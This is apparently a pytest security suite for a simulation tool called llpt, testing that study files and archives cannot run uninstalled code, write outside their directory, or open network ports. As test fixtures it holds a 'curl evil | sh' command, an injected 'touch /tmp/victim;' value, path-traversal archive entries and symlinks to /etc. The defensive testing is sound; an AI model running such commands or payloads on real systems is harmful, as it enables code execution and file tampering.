"""A study is data: whatever it names, it runs no code that nobody installed and writes nothing outside."""

import contextlib
import io
import os
import stat
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from pydantic import ValidationError
from tests.studies import WITHOUT_REPORT, study_of_one_engine

from llpt.cli.trust import agree, files_outside, foreign_code
from llpt.engines import make_engine
from llpt.errors import InputError, PluginError, StorageError
from llpt.files import file_hash
from llpt.plugins import code_place
from llpt.study import Ledger, StudyDirectory, make_plan, parse_study
from llpt.study.archive import opened
from llpt.study.imported_record import complete_imports
from llpt.study.inputs import named_inputs, wanted_inputs
from llpt.study.manifest import ArchiveManifest
from llpt.study.nodes import Job

EVIL = "from pathlib import Path\nPath('was-here').touch()\nfrom ase.calculators.lj import LennardJones as Evil\n"

STUDY = study_of_one_engine("ase:evil.Evil", name="evil", steps=2, discard=0)

PLUG_IN = """
from llpt.engines import Argument, EngineRecord, Options, Speed

ENGINE = EngineRecord(
    name="own-fluid", label="own", maker="own_fluid:make", argument=Argument.NONE, options=Options,
    speed=Speed({1.0: 1.0}), probe="own_fluid:version",
)
"""


def run(directory, *arguments, python=("-c", "from llpt.cli import main; main()"), **environment):
    return subprocess.run(
        [sys.executable, *python, *arguments],
        cwd=directory,
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize(
    ("works_in", "command", "search_path"),
    [
        (".", "run", "."),
        ("elsewhere", "run", "{study}"),
        ("elsewhere", "run --trust", "{study}/site-packages"),
    ],
)
def test_an_engine_that_lies_beside_the_study_is_not_run(tmp_path, works_in, command, search_path):
    study = tmp_path / "study"
    for place in (study, study / "site-packages", tmp_path / "elsewhere"):
        place.mkdir()
        (place / "evil.py").write_text(EVIL)
    (study / "study.toml").write_text(STUDY)
    search_path = os.pathsep.join([os.environ.get("PYTHONPATH", ""), search_path.format(study=study)])
    done = run(study / works_in if works_in == "." else tmp_path / works_in,
               *command.split(), str(study / "study.toml"), PYTHONPATH=search_path)  # fmt: skip
    assert done.returncode == 1
    assert "no place of installed packages" in " ".join(done.stderr.split())
    assert "Traceback" not in done.stderr
    assert not list(tmp_path.rglob("was-here"))


def test_an_engine_that_lies_in_a_package_beside_the_study_is_not_run_either(tmp_path, monkeypatch):
    (tmp_path / "evil_package").mkdir()
    (tmp_path / "evil_package" / "__init__.py").write_text(EVIL)
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(PluginError, match=r"evil_package\.inner"):
        code_place("evil_package.inner")
    assert "evil_package" not in sys.modules


def test_packages_are_taken_where_installers_put_them_and_nowhere_else(tmp_path, monkeypatch):
    places = {name: tmp_path / name for name in ("own", "site-packages", "edited", "merely-there")}
    for name, place in places.items():
        place.mkdir()
        (place / f"kind_{name[0]}.py").write_text("")
        monkeypatch.syspath_prepend(str(place))
    monkeypatch.setattr("site.getsitepackages", lambda: [str(places["own"])])
    (places["own"] / "edited.pth").write_text(f"import os\n{places['edited']}\n")  # of pip install -e
    for name in ("own", "site-packages", "edited"):
        assert code_place(f"kind_{name[0]}.inner") == places[name]
    with pytest.raises(PluginError, match="no place of installed packages"):
        code_place("kind_m")
    assert code_place("no_such_package") is None


def test_a_package_under_work_is_taken_but_for_what_lies_where_one_works(tmp_path, monkeypatch):
    """Of ``pip install -e`` in one's project: its modules are installed, a file beside a study in it is not."""
    (tmp_path / "kind.py").write_text("")
    monkeypatch.syspath_prepend(str(tmp_path))
    finder = SimpleNamespace(MAPPING={"kind": str(tmp_path / "kind")})
    with pytest.raises(PluginError):
        code_place("kind")
    monkeypatch.setitem(sys.modules, "__editable___kind_1_0_finder", finder)
    assert code_place("kind") == tmp_path
    with pytest.raises(PluginError):
        code_place("kind", beside=tmp_path)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(PluginError):
        code_place("kind")


def test_a_name_that_installers_know_is_not_trusted_elsewhere(tmp_path, monkeypatch):
    """A directory of ``PYTHONPATH`` comes before what ``pip install -e`` has mapped."""
    for name in ("edited", "faked"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "kind.py").write_text(EVIL)
    finder = SimpleNamespace(MAPPING={"kind": str(tmp_path / "edited" / "kind")})
    monkeypatch.setitem(sys.modules, "__editable___kind_1_0_finder", finder)
    monkeypatch.syspath_prepend(str(tmp_path / "edited"))
    assert code_place("kind") == tmp_path / "edited"
    monkeypatch.syspath_prepend(str(tmp_path / "faked"))
    with pytest.raises(PluginError, match="faked"):
        code_place("kind")


@pytest.mark.parametrize("link", ["evil.py", "evil"])
def test_a_link_among_installed_packages_that_leads_into_the_study_is_not_followed(tmp_path, monkeypatch, link):
    own, study, other = (tmp_path / name for name in ("own", "study", "other"))
    for place in (own, study / "evil", other):
        place.mkdir(parents=True)
    (study / "evil.py").write_text(EVIL)
    (study / "evil" / "__init__.py").write_text(EVIL)
    (own / link).symlink_to(study / link)
    monkeypatch.setattr("site.getsitepackages", lambda: [str(own)])
    monkeypatch.syspath_prepend(str(own))
    assert code_place("evil.inner") == own  # of flit install --symlink
    with pytest.raises(PluginError, match="study"):
        code_place("evil.inner", beside=study)
    monkeypatch.chdir(study)
    with pytest.raises(PluginError, match="study"):
        code_place("evil.inner")


def test_a_study_below_a_package_under_work_is_no_part_of_it(tmp_path, monkeypatch):
    """A folder without ``__init__.py`` is a package too: of ``pip install -e`` in a project that holds studies."""
    study = tmp_path / "project" / "studies" / "mine"
    study.mkdir(parents=True)
    (study / "evil.py").write_text(EVIL)
    own = tmp_path / "own"
    own.mkdir()
    (own / "project.pth").write_text(str(tmp_path / "project"))
    monkeypatch.setattr("site.getsitepackages", lambda: [str(own)])
    monkeypatch.syspath_prepend(str(tmp_path / "project"))
    with pytest.raises(PluginError, match=r"studies.*no place of installed packages"):
        code_place("studies.mine.evil", beside=study)
    monkeypatch.chdir(study)
    with pytest.raises(PluginError, match=r"studies.*no place of installed packages"):
        make_engine("ase:studies.mine.evil.Evil")
    assert not (study / "was-here").exists()


def test_a_package_that_looks_for_its_modules_elsewhere_takes_none_that_nobody_installed(tmp_path, monkeypatch):
    """As ``pkgutil.extend_path`` does, with every directory of the search path."""
    own, elsewhere = tmp_path / "site-packages", tmp_path / "elsewhere"
    for place in (own, elsewhere):
        (place / "widened").mkdir(parents=True)
    (own / "widened" / "__init__.py").write_text("__path__ = __import__('pkgutil').extend_path(__path__, __name__)")
    (elsewhere / "widened" / "__init__.py").write_text("")
    (elsewhere / "widened" / "evil.py").write_text(EVIL)
    for place in (elsewhere, own):
        monkeypatch.syspath_prepend(str(place))
    monkeypatch.delitem(sys.modules, "widened", raising=False)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(PluginError, match="elsewhere"):
        make_engine("ase:widened.evil.Evil")
    assert not (tmp_path / "was-here").exists()
    del sys.modules["widened"]


def test_llpt_plan_names_code_that_is_no_part_of_llpt(tmp_path, install_package):
    place = install_package("evil", EVIL, {})
    (tmp_path / "study.toml").write_text(STUDY)
    source = os.environ.get("PYTHONPATH", "")
    done = run(tmp_path, "plan", "study.toml", PYTHONPATH=f"{source}{os.pathsep}{place}")
    assert f"Engine ase:evil.Evil runs code from {place}" in done.stdout.replace("\n", "")


def test_a_plug_in_announced_in_the_current_directory_is_not_read(tmp_path):
    about = tmp_path / "evil-1.0.dist-info"
    about.mkdir()
    (about / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (about / "entry_points.txt").write_text("[llpt.engines]\nevil = evil:ENGINE\n")
    (tmp_path / "evil.py").write_text(EVIL)
    source = os.environ.get("PYTHONPATH", "")
    (tmp_path / "study.toml").write_text(STUDY.replace("ase:evil.Evil", "evil"))
    done = run(tmp_path, "plan", "study.toml", PYTHONPATH=f"{source}{os.pathsep}.")
    assert done.returncode == 1
    assert not (tmp_path / "was-here").exists()


def test_a_node_s_process_imports_nothing_from_the_current_directory(tmp_path):
    """``llpt`` itself does not: its script lies elsewhere; ``python -m``, by which a process is started, would."""
    (tmp_path / "pydantic.py").write_text(EVIL)
    (tmp_path / "study.toml").write_text(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones"))
    run(tmp_path, "run", "study.toml", python=("-P", *WITHOUT_REPORT[1:]))
    assert list((tmp_path / "study" / "jobs").glob("*.outcome.json"))
    assert not list(tmp_path.rglob("was-here"))


class Anything(Job):
    def work(self, report):
        raise NotImplementedError


@pytest.mark.parametrize("path", ["../outside", "/outside", "runs/../../outside"])
def test_a_job_that_leads_out_of_the_study_is_refused(path):
    assert Anything(path="runs/inside").path == "runs/inside"
    with pytest.raises(ValidationError, match="leads out of the study's directory"):
        Anything(path=path)


@pytest.mark.parametrize("path", ["../victim", "{victim}", "runs/../../victim", ".", "runs/..", ""])
def test_a_ledger_that_names_a_directory_outside_has_nothing_removed(tmp_path, path):
    """What it says was imported, and no table of imported runs holds, is taken away."""
    victim = tmp_path / "victim"
    victim.mkdir()
    directory = StudyDirectory.claim(tmp_path / "study", STUDY, parse_study(STUDY), source=tmp_path)
    path = path.format(victim=victim)
    with Ledger(directory.database) as ledger:
        ledger.enter(path, inputs_hash="", job='{"kind": "imported"}')
        with pytest.raises(StorageError, match="no directory below the study's"):
            complete_imports(directory, ledger)
        with pytest.raises(StorageError, match="no directory below the study's"):
            ledger.entry(path)
    with pytest.raises(StorageError, match="no directory below"):
        directory.node(path)
    assert victim.is_dir()
    assert directory.study_file.is_file()


@pytest.mark.parametrize("name", ["../outside.txt", "/outside.txt", "study/../../outside.txt"])
@pytest.mark.parametrize("kind", ["zip", "tar"])
def test_an_archive_that_leads_outside_is_refused_and_nothing_is_written(tmp_path, name, kind):
    archive = tmp_path / "inner" / f"study.{kind}"
    archive.parent.mkdir()
    if kind == "zip":
        with zipfile.ZipFile(archive, "w") as packed:
            packed.writestr("study/study.toml", STUDY)
            packed.writestr(name, "evil")
    else:
        with tarfile.open(archive, "w") as packed:
            member = tarfile.TarInfo(name)
            member.size = 4
            packed.addfile(member, io.BytesIO(b"evil"))
    with pytest.raises(InputError), opened(archive):
        pass
    assert not list(tmp_path.rglob("outside.txt"))
    assert not Path("/outside.txt").exists()


@pytest.mark.parametrize(
    ("kind", "aim"),
    [("SYMTYPE", "/etc"), ("SYMTYPE", "../.."), ("LNKTYPE", "../../secret"), ("CHRTYPE", ""), ("FIFOTYPE", "")],
)
def test_a_link_or_a_device_in_an_archive_is_refused(tmp_path, kind, aim):
    archive = tmp_path / "study.tar"
    with tarfile.open(archive, "w") as packed:
        link = tarfile.TarInfo("study/results")
        link.type, link.linkname = getattr(tarfile, kind), aim
        packed.addfile(link)
    with pytest.raises(InputError, match="cannot be unpacked"), opened(archive):
        pass


def test_a_link_in_a_zip_is_unpacked_as_a_file_that_leads_nowhere(tmp_path):
    archive = tmp_path / "study.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("study/study.toml", STUDY)
        link = zipfile.ZipInfo("study/results")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        packed.writestr(link, "/etc")
    with opened(archive) as root:
        assert not (root / "results").is_symlink()
        assert (root / "results").read_text() == "/etc"


def test_a_manifest_that_names_files_outside_does_not_reach_them(tmp_path):
    (tmp_path / "study").mkdir()
    secret = tmp_path / "secret"
    secret.write_text("secret")
    names = {"../secret": file_hash(secret), str(secret): file_hash(secret)}
    manifest = ArchiveManifest(version="1", trajectories=True, files=names)
    assert manifest.differences(tmp_path / "study") == list(names)
    left_out = ArchiveManifest(version="1", trajectories=True, files={}, left_out=names)
    assert left_out.differences(tmp_path / "study") == list(names)
    assert left_out.absent(tmp_path / "study") == {}


def test_only_a_file_that_a_study_keeps_a_copy_of_can_be_left_out(tmp_path):
    """Else a manifest could say of any file that it need not be there, and tell which files somebody has."""
    named = "inputs/surrogate/model.pt"
    (tmp_path / "study/inputs").mkdir(parents=True)
    (tmp_path / "study/inputs/here").symlink_to(tmp_path)
    for name in (
        "../nothing",
        "/nothing",
        "~/nothing",
        "inputs/../nothing",
        "inputs/here/nothing",
        "results/a.nc",
        "inputs",
    ):
        manifest = ArchiveManifest(version="1", trajectories=True, files={}, left_out={name: "", named: ""})
        assert manifest.differences(tmp_path / "study") == [name]
        assert [*manifest.absent(tmp_path / "study")] == [named]
        with pytest.raises(InputError, match="another file than"):
            manifest.refuse_other_potentials(tmp_path / "study")
    both = ArchiveManifest(version="1", trajectories=True, files={named: ""}, left_out={named: ""})
    assert both.differences(tmp_path / "study") == [named]
    assert both.absent(tmp_path / "study") == {}


@pytest.mark.parametrize("name", ["results", "runs/inner/run.log"])
def test_a_link_in_an_unpacked_study_that_leads_outside_is_refused(tmp_path, name):
    """``llpt report`` would write through it."""
    root = StudyDirectory.claim(tmp_path / "study", STUDY, parse_study(STUDY), source=tmp_path).root
    link = root / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(tmp_path / "outside")
    assert StudyDirectory.open(root)  # one's own may lie where one likes
    (root / "archive.json").write_text("{}")
    with pytest.raises(InputError, match="leads out of it"):
        StudyDirectory.open(root)
    link.unlink()
    link.symlink_to(root / "study.toml")
    assert StudyDirectory.open(root)


def test_a_study_that_was_unpacked_by_hand_comes_from_elsewhere(tmp_path, plan):
    root = StudyDirectory.claim(tmp_path / "study", STUDY, parse_study(STUDY), source=tmp_path).root
    agree(root, plan, trust=False)
    (root / "archive.json").write_text("{}")
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(root, plan, trust=False)


def packed(place, **replaced):
    text = STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones")
    for old, new in replaced.items():
        text = text.replace(old, new)
    archive = place / "study.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("study/study.toml", text)
    return archive


def test_an_archive_runs_foreign_code_only_where_somebody_trusts_it(tmp_path):
    archive = packed(tmp_path)
    done = run(tmp_path, "run", archive.name, "--out", "again")
    assert done.returncode == 1
    assert "comes from elsewhere" in done.stderr
    assert "--trust" in done.stderr
    assert not (tmp_path / "again").exists()
    done = run(tmp_path, "run", archive.name, "--out", "again", "--trust", "--stop-after", "0.1s")
    assert "comes from elsewhere" not in done.stderr
    assert (tmp_path / "again" / "study.toml").exists()


@pytest.fixture
def plan(monkeypatch, tmp_path):
    """The plan of a study that names an engine which is no part of llpt, and a person's own place."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "own"))
    return make_plan(parse_study(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones")))


def test_a_study_from_elsewhere_asks_once(tmp_path, plan):
    archive = packed(tmp_path)
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(archive, plan, trust=False)
    agree(archive, plan, trust=True)
    agree(archive, plan, trust=False)
    packed(tmp_path, **{"steps = 2": "steps = 3"})
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(archive, plan, trust=False)


@pytest.mark.parametrize("answer", [True, False])
def test_who_sits_at_a_terminal_is_asked(tmp_path, plan, monkeypatch, capsys, answer):
    asked = []
    monkeypatch.setattr("sys.stdin", SimpleNamespace(isatty=lambda: True))
    monkeypatch.setattr("typer.confirm", lambda question, **_: asked.append(question) or answer)
    with contextlib.nullcontext() if answer else pytest.raises(InputError, match="comes from elsewhere"):
        agree(packed(tmp_path), plan, trust=False)
    assert asked == ["The study comes from elsewhere. Allow this?"]
    assert "runs code from" in capsys.readouterr().err.replace("\n", " ")


def test_one_s_own_file_is_asked_about_at_a_terminal_the_first_time(tmp_path, plan, monkeypatch):
    """Nothing shows of a file that it was downloaded."""
    study = tmp_path / "study.toml"
    study.write_text(STUDY)
    answers = [False, True]
    monkeypatch.setattr("sys.stdin", SimpleNamespace(isatty=lambda: True))
    monkeypatch.setattr("typer.confirm", lambda *_, **__: answers.pop(0))
    with pytest.raises(InputError, match="nobody has agreed"):
        agree(study, plan, trust=False)
    agree(study, plan, trust=False)
    study.write_text(STUDY.replace("steps = 2", "steps = 3"))  # what it names is the same
    agree(study, plan, trust=False)
    assert not answers


@pytest.fixture
def of_another(tmp_path, monkeypatch):
    """A study file that belongs to another person."""
    study = tmp_path / "study.toml"
    study.write_text(STUDY)
    monkeypatch.setattr("os.geteuid", lambda: study.stat().st_uid + 1)
    return study


def test_a_file_of_another_person_comes_from_elsewhere(plan, of_another):
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(of_another, plan, trust=False)
    agree(of_another, plan, trust=True)
    agree(of_another, plan, trust=False)


def test_one_s_own_file_is_run_by_a_script_without_a_question_and_says_once_what_it_runs(tmp_path, plan, capsys):
    study = tmp_path / "study.toml"
    study.write_text(STUDY)
    agree(study, plan, trust=False)
    assert "runs code from" in capsys.readouterr().err.replace("\n", " ")
    agree(study, plan, trust=False)
    assert not capsys.readouterr().err


@pytest.mark.usefixtures("plan")
@pytest.mark.parametrize(
    ("engine", "rest", "file"),
    [
        ("vasp", '[reference.options]\ncommand = "sh ./run -n 2"\n', "run"),
        ("mace:model.pt", "", "model.pt"),
        ("lammps:in.lj", "", "in.lj"),
    ],
)
def test_what_is_changed_afterwards_is_asked_for_again(of_another, engine, rest, file):
    """A program or a model beside the study of another person may be another one the next time."""
    plan = make_plan(parse_study(STUDY.replace("ase:evil.Evil", engine) + rest))
    beside = of_another.parent / file
    beside.write_text("one")
    agree(of_another, plan, trust=True)
    agree(of_another, plan, trust=False)
    beside.write_text("another")
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(of_another, plan, trust=False)


def test_where_an_engine_s_code_lies_is_looked_up_once_however_many_runs_it_has(monkeypatch):
    """Ten thousand runs were looked up one by one: 40 seconds of llpt plan."""
    looked_up = []
    monkeypatch.setattr("llpt.plugins.code_place", lambda module, **_: looked_up.append(module))
    engine = "ase:ase.calculators.lj.LennardJones"
    text = study_of_one_engine(engine, temperatures_k=[700, 800, 900], steps=2, discard=0)
    plan = make_plan(parse_study(text))
    assert sum(len(node.engines) for node in plan.nodes) > 1
    foreign_code(plan)
    assert looked_up == ["ase.calculators.lj.LennardJones"]


def test_a_model_that_is_unpickled_is_named(tmp_path):
    plan = make_plan(parse_study(STUDY.replace("ase:evil.Evil", "mace:model.pt")))
    assert foreign_code(plan) == [
        "Engine mace:model.pt unpickles a file, which can run any code: be sure where it comes from."
    ]
    archive = tmp_path / "study.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("study/study.toml", STUDY)
    with pytest.raises(InputError, match="unpickles"):
        agree(archive, plan, trust=False)


def test_an_archive_takes_no_file_from_outside_itself(tmp_path):
    (tmp_path / "secret.xyz").write_text("1\n\nH 0 0 0\n")
    archive = packed(tmp_path, **{'"atomic"': f'"{tmp_path / "secret.xyz"}"'})
    done = run(tmp_path, "run", archive.name, "--out", "again", "--trust")
    assert done.returncode == 1
    assert "does not exist" in done.stderr
    assert not (tmp_path / "again").exists()


PSEUDOPOTENTIAL = '[reference.options]\npseudopotential = "{secret}"\n'


@pytest.mark.parametrize("engine", ["quantum-espresso", "abinit"])
@pytest.mark.parametrize("named", ["{home}/secret", "~/secret", "../home/secret", "{home}/secret.upf"])
def test_an_archive_takes_no_pseudopotential_from_outside_itself(tmp_path, monkeypatch, engine, named):
    """One without a suffix neither."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("secret", "secret.upf"):
        (home / name).write_text("<UPF>")
    text = STUDY.replace("ase:evil.Evil", engine) + PSEUDOPOTENTIAL.format(secret=named.format(home=home))
    study = parse_study(text)
    with pytest.raises(InputError, match=r"reference\.pseudopotential = .* does not exist"):
        named_inputs(study, tmp_path / "study", archived=True)
    (run,) = make_plan(study).own_runs
    assert Path(run.task.options["pseudopotential"]).parent == Path("inputs/pseudopotential")


def test_every_engine_of_a_study_is_given_the_copy_of_its_pseudopotential():
    text = STUDY.replace("[reference]\nengine", "[surrogate]\nengine").replace("ase:evil.Evil", "abinit")
    study = parse_study(text + '[surrogate.options]\npseudopotential = "/place/secret"\n')
    assert wanted_inputs(study) == [("surrogate.pseudopotential", "/place/secret", "pseudopotential")]
    (run,) = make_plan(study).own_runs
    assert run.task.options["pseudopotential"] == "inputs/pseudopotential/secret"


@pytest.mark.parametrize(
    "given", ['engine = "n2p2:models/../../secret"', 'engine = "behler-parrinello"\npath = "models/../../secret"']
)
def test_a_potential_that_only_seems_to_be_trained_here_is_a_file_like_others(tmp_path, given):
    text = STUDY.replace("[reference]", "[surrogate]").replace('engine = "ase:evil.Evil"', given)
    study = parse_study(text)
    with pytest.raises(InputError, match="does not exist"):
        named_inputs(study, tmp_path / "study", archived=True)
    (run,) = make_plan(study).own_runs
    assert run.task.engine == "n2p2:inputs/surrogate/secret"


@pytest.mark.usefixtures("plan")
@pytest.mark.parametrize("inside", [True, False])
@pytest.mark.parametrize("linked", [True, False])
def test_files_of_one_s_own_are_not_given_to_a_study_of_another_unasked(tmp_path, of_another, inside, linked):
    """It would keep a copy of them, which goes with the study."""
    beside = of_another.parent
    own = (beside if inside else tmp_path.parent) / f"{tmp_path.name}-cell.xyz"
    own.touch()
    named = own
    if linked:
        named = beside / "link.xyz"
        named.symlink_to(own)
    study = parse_study(STUDY.replace("ase:evil.Evil", "dft").replace('"atomic"', f'"{named}"'))
    told = [] if inside else [f"The study is given system.start = {named}, outside of its directory."]
    assert files_outside(study, beside) == told
    with contextlib.nullcontext() if inside else pytest.raises(InputError, match=r"system\.start"):
        agree(of_another, make_plan(study), description=study, trust=False)
    agree(of_another, make_plan(study), description=study, trust=True)
    agree(of_another, make_plan(study), description=study, trust=False)


def test_a_directory_of_another_that_holds_a_link_to_one_s_own_is_asked_for(tmp_path):
    place = tmp_path / "study"
    (place / "pot").mkdir(parents=True)
    (place / "pot" / "input.nn").symlink_to(tmp_path / "secret")
    study = parse_study(STUDY.replace("ase:evil.Evil", "n2p2:pot"))
    assert files_outside(study, place) == ["The study is given reference.engine = pot, outside of its directory."]


def test_a_plug_in_is_named_and_asked_for(tmp_path, install_package):
    place = install_package("own_fluid", PLUG_IN, {"llpt.engines": {"own-fluid": "own_fluid:ENGINE"}})
    text = STUDY.replace("ase:evil.Evil", "own-fluid")
    plan = make_plan(parse_study(text))
    assert foreign_code(plan) == [f"Engine own-fluid is a plug-in and runs code from {place}."]
    archive = tmp_path / "study.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("study/study.toml", text)
    with pytest.raises(InputError, match="is a plug-in"):
        agree(archive, plan, trust=False)


@pytest.mark.parametrize(
    ("engine", "rest", "line"),
    [
        (
            "n2p2:pot",
            '[execution]\nwhere = "slurm"\n[execution.provider]\nworker_init = "id > out"\nmax_blocks = 2\n',
            "The script of every block of nodes holds worker_init = 'id > out'.",
        ),
        (
            "cp2k",
            '[reference.options]\nbasis_file = "/secret"\n',
            "Engine cp2k is given basis_file = /secret, outside of the study.",
        ),
        (
            "lammps:in.lj",
            "",
            "Engine lammps:in.lj runs the commands of a file, which can run any code: be sure where it comes from.",
        ),
    ],
)
def test_what_a_scheduler_runs_and_files_from_outside_are_named_and_asked_for(tmp_path, engine, rest, line):
    study = parse_study(STUDY.replace("ase:evil.Evil", engine) + rest)
    plan, provider = make_plan(study), study.execution.provider
    assert foreign_code(plan, provider) == [line]
    with pytest.raises(InputError, match="comes from elsewhere"):
        agree(packed(tmp_path), plan, provider=provider, trust=False)


def test_every_text_given_to_a_calculator_of_ase_is_named_since_any_may_be_a_command_or_a_path():
    given = "castep_command = 'touch /tmp/victim;'\ndirectory = '\"/outside\"'\nlabel = '~/x'\nport = 31999\n"
    text = STUDY.replace("ase:evil.Evil", "ase:ase.calculators.castep.Castep") + f"[reference.options]\n{given}"
    code, *options = foreign_code(make_plan(parse_study(text)))
    engine = "Engine ase:ase.calculators.castep.Castep"
    assert code == f"{engine} is given castep_command = touch /tmp/victim;."
    assert options[:2] == [
        f'{engine} is given directory = "/outside".',
        f"{engine} is given label = ~/x, outside of the study.",
    ]
    assert options[2].startswith(f"{engine} runs code from ")
    assert len(options) == 3


def test_the_script_of_a_scheduler_is_asked_for_by_the_command_itself(tmp_path):
    text = (
        STUDY.replace("ase:evil.Evil", "n2p2:pot")
        + '[execution]\nwhere = "slurm"\n[execution.provider]\nworker_init = "id"\n'
    )
    (tmp_path / "study.toml").write_text(text)
    with zipfile.ZipFile(tmp_path / "study.zip", "w") as zipped:
        zipped.writestr("study/study.toml", text)
    done = run(tmp_path, "run", "study.zip", "--out", "again")
    assert done.returncode == 1
    assert "worker_init" in done.stderr
    assert not (tmp_path / "again").exists()


def test_llpt_plan_names_the_programs_that_a_study_starts(tmp_path):
    text = STUDY.replace("ase:evil.Evil", "vasp") + '[reference.options]\ncommand = "curl evil | sh"\n'
    (tmp_path / "study.toml").write_text(text)
    assert "Engine vasp starts: curl evil | sh" in run(tmp_path, "plan", "study.toml").stdout


@pytest.mark.parametrize(("directory", "inside"), [("/root/.ssh", False), ("../../bin", False), ("work/vasp", True)])
def test_a_directory_that_an_engine_writes_into_is_named_and_asked_for(tmp_path, directory, inside):
    text = STUDY.replace("ase:evil.Evil", "vasp") + f'[reference.options]\ndirectory = "{directory}"\n'
    plan = make_plan(parse_study(text))
    assert foreign_code(plan) == ([] if inside else [f"Engine vasp writes into {directory}, outside of the study."])
    archive = tmp_path / "study.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("study/study.toml", text)
    with contextlib.nullcontext() if inside else pytest.raises(InputError, match="comes from elsewhere"):
        agree(archive, plan, trust=False)


LISTENING = """
import threading, psutil
from llpt.cli import main
looks, found, over = [0], set(), threading.Event()

def look():
    own = psutil.Process()
    while not over.is_set():
        for process in (own, *own.children(recursive=True)):
            try:
                found.update(f"{process.name()} {each.laddr}" for each in process.net_connections("inet"))
            except psutil.Error:
                continue
        looks[0] += 1
        over.wait(0.03)

watcher = threading.Thread(target=look)
watcher.start()
try:
    main()
finally:
    over.set()
    watcher.join()
    print(looks[0], "looks:", sorted(found))
"""


def test_no_socket_listens_beyond_this_machine(tmp_path):
    """A study on this machine opens none while it runs, nor do its processes; pw.x is spoken to over a unix socket."""
    (tmp_path / "study.toml").write_text(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones"))
    done = run(tmp_path, "run", "study.toml", python=("-c", LISTENING))
    last = done.stdout.strip().splitlines()[-1]
    assert last.endswith("looks: []"), done.stdout
    assert int(last.split()[0]) > 20
    assert list((tmp_path / "study" / "jobs").glob("*.outcome.json"))


def test_a_study_whose_calculator_would_listen_to_all_networks_is_not_run(tmp_path):
    text = STUDY.replace("evil.Evil", "ase.calculators.socketio.SocketIOCalculator")
    (tmp_path / "study.toml").write_text(text + "[reference.options]\nport = 31999\n")
    for command in ("plan", "run"):
        done = run(tmp_path, command, "study.toml")
        assert done.returncode == 1
        assert "would open a port to all networks" in " ".join(done.stderr.split())
    assert not (tmp_path / "study").exists()
